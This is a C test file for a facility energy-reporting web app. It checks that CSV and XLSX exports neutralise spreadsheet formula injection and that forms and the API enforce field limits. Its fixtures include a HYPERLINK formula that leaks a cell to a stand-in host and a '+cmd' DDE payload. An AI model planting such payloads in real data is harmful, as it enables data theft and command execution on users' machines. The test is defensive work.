/*
 * Over HTTP, on the workflow fixture (tests/lib/wffix.h) with data put in
 * through the CSV import:
 *   - the CSV download of /keyusers writes a facility named
 *     =HYPERLINK("http://x/?"&A1,"click") or +cmd|' /C calc'!A0 behind an
 *     apostrophe (never a formula), and the directory's workbook holds such
 *     a name as a string, not a formula;
 *   - a facility and a report imported at every limit (validate.h) are
 *     saved again unchanged through the profile form, the report form and
 *     PUT /api/v1/reports/{id}, with what those pages and the API showed;
 *     a value just above a limit is refused by the form (400) and the API
 *     (422) with the field named.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "db/db.h"
#include "fixture.h"
#include "http_session.h"
#include "model/accounts/apitoken.h"
#include "model/io/csvio.h"
#include "testutil.h"
#include "util/alloc.h"
#include "util/buf.h"
#include "wffix.h"
#include "xlsx_read.h"

#define DBNAME "web_limits.db"

static struct hc_server server;
static struct hs_session ent1, province;
static char token[APITOKEN_LEN + 1]; /* ent1@test's */
static char *t1000, *t1001;	     /* texts of 1,000 and 1,001 bytes */

static void
import(struct db *db, enum csvio_kind kind, const char *text, const struct csvio_opts *o)
{
	struct buf errs;
	buf_init(&errs, 1 << 16);
	FILE *f = fopen(tu_write_file("in.csv", text), "rb");
	assert_non_null(f);
	int rc = csvio_import(db, kind, f, "in.csv", o, csvio_err_buf, &errs, NULL);
	fclose(f);
	if (rc != 0)
		fail_msg("import: %s", buf_str(&errs));
	buf_free(&errs);
}

/*
 * F1 (ent1's) gets a 1,000-byte name and address and 10,000,000 employees,
 * and a 2024 draft at the amount limit 10^15 (costs, and a material counted
 * in pieces, which has no plausibility limit; the output, electricity and
 * water at their hard plausibility limits of data/plausibility.csv: 10^6 t
 * of catfish, 2.8 x 10^10 kWh, 10^9 m3) with a 1,000-byte material name
 * and a quantity that needs 17 digits; F2 and F3 get the formula
 * names and 2023 reports that make them key users (10,000,000 kWh ×
 * 0.0001543 = 1,543 TOE; 7,000,000 kWh × 0.0001543 = 1,080.1 TOE).
 */
static int
setup(void **state)
{
	(void)state;
	t1000 = fx_text_of(1000);
	t1001 = fx_text_of(1001);
	struct db *db = wfx_new(DBNAME);
	char *text = xasprintf(
	    FX_FH
	    "F1,0100109106,%s,10,t-a1,%s,,,private,small,10000000,,,active\n"
	    "F2,,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",10,t-b,,,,private,small,,,,"
	    "active\n"
	    "F3,,+cmd|' /C calc'!A0,10,t-a,,,,private,medium,,,,active\n",
	    t1000, t1000);
	import(db, CSVIO_FACILITIES, text, &(struct csvio_opts){.update = 1});
	free(text);
	text = xasprintf(FX_RH "F1,2024,draft,,,,,output,,frozen_catfish,,1000000,t,\n"
			       "F1,2024,draft,,,,,energy,electricity,,,28000000000,kWh,1e15\n"
			       "F1,2024,draft,,,,,water,tap,,,1e9,m3,1e15\n"
			       "F1,2024,draft,,,,,material,%s,,,1e15,piece,1e15\n"
			       "F1,2024,draft,,,,,material,vôi,,,0.30000000000000004,kg,\n"
			       "F2,2023,accepted,,,,,energy,electricity,,,10000000,kWh,\n"
			       "F3,2023,accepted,,,,,energy,electricity,,,7000000,kWh,\n",
			 t1000);
	import(db, CSVIO_REPORTS, text, NULL);
	free(text);
	if (apitoken_create(db, &wfx_who[WFX_ENT1], "test", 1700000000, token, NULL) != ST_OK)
		fail_msg("apitoken_create");
	struct user u;
	assert_int_equal(user_get(db, wfx_who[WFX_ENT1].user_id, &u), ST_OK);
	hs_session_new(db, &u, &ent1);
	assert_int_equal(user_get(db, wfx_who[WFX_PROVINCE].user_id, &u), ST_OK);
	hs_session_new(db, &u, &province);
	db_close(db);
	hs_server_start(&server, DBNAME);
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	hs_server_stop(&server);
	free(t1000);
	free(t1001);
	return 0;
}

/* The count a literal query gives on the served database. */
static long long
count(const char *sql)
{
	return wfx_int(DBNAME, sql);
}

static void
test_downloads_guarded(void **state)
{
	(void)state;
	struct hc_response r;
	/* 10,000,000 kWh x 0.0001543 = 1,543 TOE; 7,000,000 kWh = 1,080.1 TOE; numbers
	 * written exactly (fmt_exact; "1543.000" before). */
	hs_req(server.port, "GET", "/keyusers?year=2023&format=csv", province.cookie, NULL, 200,
	       &r);
	assert_string_equal(
	    r.body,
	    "year,code,name,tax_code,unit,sector,toe_total,incomplete,status,derived_only,"
	    "carrier,quantity,native_unit,carrier_toe,carrier_toe_derived\n"
	    "2023,F2,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,Huyện B,10,1543,0,"
	    "key_user,0,electricity,10000000,kWh,1543,0\n"
	    "2023,F3,'+cmd|' /C calc'!A0,,Huyện A,10,1080.1,0,key_user,0,electricity,"
	    "7000000,kWh,1080.1,0\n");
	hc_response_free(&r);

	/* The directory's workbook: a string cell, and no formula anywhere. */
	hs_req(server.port, "GET", "/facilities?q=hyperlink&format=xlsx", NULL, NULL, 200, &r);
	const char *path = tu_path("dir.xlsx");
	FILE *f = fopen(path, "wb");
	assert_non_null(f);
	assert_int_equal(fwrite(r.body, 1, r.body_len, f), r.body_len);
	fclose(f);
	hc_response_free(&r);
	char type[16], val[256];
	/* Row 5: the first data row under the title, source, blank and header rows. */
	assert_int_equal(xr_cell(path, 1, "A5", type, val, sizeof(val)), 1);
	assert_string_equal(val, "=HYPERLINK(\"http://x/?\"&A1,\"click\")");
	assert_true(strcmp(type, "s") == 0 || strcmp(type, "inlineStr") == 0);
	char *sheet = xr_part(path, "xl/worksheets/sheet1.xml");
	assert_non_null(sheet);
	assert_null(strstr(sheet, "<f>"));
	free(sheet);
}

/* s with the five entities the HTML writer makes turned back; malloc'd. */
static char *
unescape(const char *s, size_t n)
{
	static const char *const ent[][2] = {
	    {"&amp;", "&"}, {"&lt;", "<"}, {"&gt;", ">"}, {"&quot;", "\""}, {"&#39;", "'"}};
	char *out = xmalloc(n + 1);
	size_t o = 0;
	for (size_t i = 0; i < n;) {
		size_t k;
		for (k = 0; k < sizeof(ent) / sizeof(ent[0]); k++)
			if (strncmp(s + i, ent[k][0], strlen(ent[k][0])) == 0)
				break;
		if (k < sizeof(ent) / sizeof(ent[0])) {
			out[o++] = ent[k][1][0];
			i += strlen(ent[k][0]);
		} else {
			out[o++] = s[i++];
		}
	}
	out[o] = '\0';
	return out;
}

static void
urlenc(struct buf *b, const char *s)
{
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;
		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
		    c == '-' || c == '_' || c == '.')
			buf_putc(b, (char)c);
		else
			buf_printf(b, "%%%02X", c);
	}
}

/* The value of attribute attr in the tag [tag, end), or NULL; malloc'd. */
static char *
attr_of(const char *tag, const char *end, const char *attr)
{
	char pat[32];
	snprintf(pat, sizeof(pat), " %s=\"", attr);
	const char *p = strstr(tag, pat);
	if (p == NULL || p > end)
		return NULL;
	p += strlen(pat);
	const char *q = strchr(p, '"');
	return unescape(p, (size_t)(q - p));
}

/*
 * The body a browser posts from the form of page whose action is action:
 * every <input> with its value as shown, except csrf (hs_form_req adds
 * it), and every <select>'s selected option, with the value of name set[i] replaced by set[i + 1]
 * (set ends with NULL; a name not in the form is added).  *shown receives the value shown for name
 * look (when look is not NULL).  malloc'd.
 */
static char *
form_body(const char *page, const char *action, const char *const *set, const char *look,
	  char **shown)
{
	char pat[128];
	snprintf(pat, sizeof(pat), "action=\"%s\"", action);
	const char *form = strstr(page, pat);
	assert_non_null(form);
	const char *form_end = strstr(form, "</form>");
	struct buf b;
	buf_init(&b, 1 << 20);
	int used[16] = {0};
	for (const char *p = form; (p = strstr(p, "<input ")) != NULL && p < form_end; p++) {
		const char *end = strchr(p, '>');
		char *name = attr_of(p, end, "name"), *value = attr_of(p, end, "value");
		if (name != NULL && strcmp(name, "csrf") != 0) {
			const char *v = value != NULL ? value : "";
			for (int i = 0; set != NULL && set[i] != NULL; i += 2)
				if (strcmp(set[i], name) == 0) {
					v = set[i + 1];
					used[i / 2] = 1;
				}
			if (look != NULL && strcmp(look, name) == 0)
				*shown = xstrdup(value != NULL ? value : "");
			buf_printf(&b, "%s%s=", b.len ? "&" : "", name);
			urlenc(&b, v);
		}
		free(name);
		free(value);
	}
	/* Each <select> posts its selected option, or its first when none is. */
	for (const char *p = form; (p = strstr(p, "<select ")) != NULL && p < form_end; p++) {
		const char *end = strchr(p, '>'), *close = strstr(p, "</select>");
		char *name = attr_of(p, end, "name"), *value = NULL;
		const char *opt = strstr(end, "<option ");
		for (const char *o = opt; o != NULL && o < close; o = strstr(o + 1, "<option ")) {
			const char *sel = strstr(o, "selected=\"selected\"");
			if (sel != NULL && sel < strchr(o, '>')) {
				opt = o;
				break;
			}
		}
		if (opt != NULL && opt < close)
			value = attr_of(opt, strchr(opt, '>'), "value");
		if (name != NULL) {
			const char *v = value != NULL ? value : "";
			for (int i = 0; set != NULL && set[i] != NULL; i += 2)
				if (strcmp(set[i], name) == 0) {
					v = set[i + 1];
					used[i / 2] = 1;
				}
			buf_printf(&b, "%s%s=", b.len ? "&" : "", name);
			urlenc(&b, v);
		}
		free(name);
		free(value);
	}
	for (int i = 0; set != NULL && set[i] != NULL; i += 2)
		if (!used[i / 2]) {
			buf_printf(&b, "%s%s=", b.len ? "&" : "", set[i]);
			urlenc(&b, set[i + 1]);
		}
	char *s = xstrdup(buf_str(&b));
	buf_free(&b);
	return s;
}

/* GET target as ent1 and the form body of action with set applied; malloc'd. */
static char *
load_form(const char *target, const char *action, const char *const *set)
{
	struct hc_response r;
	hs_form_req(server.port, &ent1, "GET", target, NULL, 200, &r);
	char *body = form_body(r.body, action, set, NULL, NULL);
	hc_response_free(&r);
	return body;
}

/* Whether the stored F1 profile and 2024 report are still what was imported. */
static void
assert_f1_unchanged(void)
{
	char *sql = xasprintf("SELECT count(*) FROM facility WHERE id = 1 AND name = '%s' AND "
			      "address = '%s' AND employees = 10000000",
			      t1000, t1000);
	assert_int_equal(count(sql), 1);
	free(sql);
	sql = xasprintf("SELECT count(*) FROM report_material m JOIN report r ON r.id = "
			"m.report_id WHERE r.facility_id = 1 AND r.year = 2024 AND m.name = '%s' "
			"AND m.quantity = 1e15 AND m.cost_vnd = 1e15",
			t1000);
	assert_int_equal(count(sql), 1);
	free(sql);
	assert_int_equal(count("SELECT count(*) FROM report_material WHERE name = 'vôi' AND "
			       "quantity = 0.30000000000000004 AND unit = 'kg'"),
			 1);
	assert_int_equal(count("SELECT count(*) FROM report_energy WHERE quantity = 28e9 AND "
			       "cost_vnd = 1e15"),
			 1);
	assert_int_equal(count("SELECT count(*) FROM report_water WHERE quantity_m3 = 1e9 AND "
			       "cost_vnd = 1e15"),
			 1);
	assert_int_equal(count("SELECT count(*) FROM report_output WHERE quantity = 1e6"), 1);
}

static void
test_forms(void **state)
{
	(void)state;
	struct hc_response r;
	/* The profile as shown, posted back: saved, nothing changed. */
	char *body = load_form("/facilities/1", "/facilities/1/profile", NULL);
	hs_form_req(server.port, &ent1, "POST", "/facilities/1/profile", body, 303, &r);
	hc_response_free(&r);
	free(body);
	assert_f1_unchanged();

	/* One byte or one more employee over: 400, the field named beside it. */
	const char *const longer[] = {"name", t1001, NULL};
	body = load_form("/facilities/1", "/facilities/1/profile", longer);
	hs_form_req(server.port, &ent1, "POST", "/facilities/1/profile", body, 400, &r);
	hs_contains(&r, "data-field=\"name\">tên cơ sở dài quá 1000 byte (có 1001 byte)</span>");
	hc_response_free(&r);
	free(body);
	const char *const more[] = {"employees", "10000001", NULL};
	body = load_form("/facilities/1", "/facilities/1/profile", more);
	hs_form_req(server.port, &ent1, "POST", "/facilities/1/profile", body, 400, &r);
	hs_contains(&r, "data-field=\"employees\">số lao động phải từ 0 đến 10000000</span>");
	hc_response_free(&r);
	free(body);

	/* The report as shown (10^15 and 0.30000000000000004 in full), saved again. */
	const char *const save[] = {"op", "save", NULL};
	const char *rep = "/facilities/1/report/2024";
	body = load_form(rep, rep, save);
	hs_form_req(server.port, &ent1, "POST", rep, body, 303, &r);
	hc_response_free(&r);
	free(body);
	assert_f1_unchanged();

	const char *const over[] = {"energy[0].quantity", "1000000000000001", "op", "save", NULL};
	body = load_form(rep, rep, over);
	hs_form_req(server.port, &ent1, "POST", rep, body, 400, &r);
	hs_contains(
	    &r, "data-field=\"energy[0].quantity\">lượng năng lượng phải từ 0 đến 1e+15</span>");
	hc_response_free(&r);
	free(body);

	/* The 1,000-byte material name with one byte more. */
	hs_form_req(server.port, &ent1, "GET", rep, NULL, 200, &r);
	char *shown = NULL;
	free(form_body(r.body, rep, NULL, "material[0].name", &shown));
	hc_response_free(&r);
	const char *field = strcmp(shown, t1000) == 0 ? "material[0].name" : "material[1].name";
	free(shown);
	const char *const name[] = {field, t1001, "op", "save", NULL};
	body = load_form(rep, rep, name);
	hs_form_req(server.port, &ent1, "POST", rep, body, 400, &r);
	char *want = xasprintf("data-field=\"%s\">tên nguyên vật liệu dài quá 1000 byte (có 1001 "
			       "byte)</span>",
			       field);
	hs_contains(&r, want);
	free(want);
	hc_response_free(&r);
	free(body);
	assert_f1_unchanged();
}

/* Sends method target as ent1 with a JSON body; returns the status and the parsed answer. */
static int
api(const char *method, const char *target, const char *body, json_t **doc)
{
	char extra[256];
	snprintf(extra, sizeof(extra), "Authorization: Bearer %s\r\n%s", token,
		 body != NULL ? "Content-Type: application/json\r\n" : "");
	struct hc_response r;
	if (hc_request(server.port, method, target, extra, body, &r) < 0)
		fail_msg("%s %s: no answer", method, target);
	*doc = json_loads(r.body, 0, NULL);
	assert_non_null(*doc);
	int status = r.status;
	hc_response_free(&r);
	return status;
}

/* Asserts a 422 whose first error is field with the message msg. */
static void
assert_invalid(int status, json_t *doc, const char *field, const char *msg)
{
	assert_int_equal(status, 422);
	json_t *e = json_array_get(json_object_get(doc, "errors"), 0);
	assert_string_equal(json_string_value(json_object_get(e, "field")), field);
	assert_string_equal(json_string_value(json_object_get(e, "message")), msg);
}

static void
test_api(void **state)
{
	(void)state;
	long long id = count("SELECT id FROM report WHERE facility_id = 1 AND year = 2024");
	char *target = xasprintf("/api/v1/reports/%lld", id);
	json_t *doc, *ans;
	assert_int_equal(api("GET", target, NULL, &doc), 200);

	/* The report as the API gave it, put back: saved, nothing changed. */
	char *body = json_dumps(doc, 0);
	assert_int_equal(api("PUT", target, body, &ans), 200);
	free(body);
	json_decref(ans);
	json_decref(doc);
	assert_f1_unchanged();
	assert_int_equal(api("GET", target, NULL, &doc), 200);

	/* 10^15 + 1, even written as a real, is one over. */
	json_t *en = json_array_get(json_object_get(doc, "energy"), 0);
	json_object_set_new(en, "quantity", json_real(1000000000000001.0));
	body = json_dumps(doc, 0);
	int status = api("PUT", target, body, &ans);
	assert_invalid(status, ans, "energy[0].quantity",
		       "lượng năng lượng phải từ 0 đến 1e+15 / energy quantity must be between 0 "
		       "and 1e+15, got '1000000000000001'");
	assert_string_equal(json_string_value(json_object_get(ans, "detail")),
			    "dữ liệu không hợp lệ / invalid input");
	json_decref(ans);
	/* ?lang=en puts English first, in the detail and in each field's message. */
	char *target_en = xasprintf("%s?lang=en", target);
	status = api("PUT", target_en, body, &ans);
	assert_invalid(status, ans, "energy[0].quantity",
		       "energy quantity must be between 0 and 1e+15, got '1000000000000001' / "
		       "lượng năng lượng phải từ 0 đến 1e+15");
	assert_string_equal(json_string_value(json_object_get(ans, "detail")),
			    "invalid input / dữ liệu không hợp lệ");
	free(target_en);
	free(body);
	json_decref(ans);
	json_object_set_new(en, "quantity", json_real(28e9));

	/* The 1,000-byte material name with one byte more. */
	json_t *mats = json_object_get(doc, "material");
	size_t i =
	    strcmp(json_string_value(json_object_get(json_array_get(mats, 0), "name")), t1000) == 0
		? 0
		: 1;
	json_object_set_new(json_array_get(mats, i), "name", json_string(t1001));
	body = json_dumps(doc, 0);
	status = api("PUT", target, body, &ans);
	char *field = xasprintf("material[%zu].name", i);
	assert_invalid(status, ans, field,
		       "tên nguyên vật liệu dài quá 1000 byte (có 1001 byte) / material name is "
		       "longer than 1000 bytes (1001 given)");
	free(field);
	free(body);
	json_decref(ans);
	json_decref(doc);
	free(target);
	assert_f1_unchanged();
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_downloads_guarded),
	    cmocka_unit_test(test_forms),
	    cmocka_unit_test(test_api),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
